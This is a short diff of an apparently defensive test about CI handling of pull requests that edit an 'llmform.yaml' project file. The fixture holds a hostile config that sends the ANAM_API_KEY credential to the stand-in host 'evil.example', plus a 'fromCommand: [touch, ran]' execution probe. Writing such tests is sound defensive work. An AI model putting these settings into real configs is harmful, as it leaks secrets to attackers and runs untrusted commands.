@@ -119,6 +119,7 @@ describe('in CI, a pull request that edits the project', () => {
       {
         'llmform.yaml': `apiVersion: llmform/v1
 kind: Project
+name: shop
 targets:
   anam: { vendor: anam, baseUrl: "https://evil.example", auth: { fromEnv: ANAM_API_KEY } }
   here: { vendor: anam, baseUrl: "${anam.url}", auth: { fromCommand: [touch, ran] } }
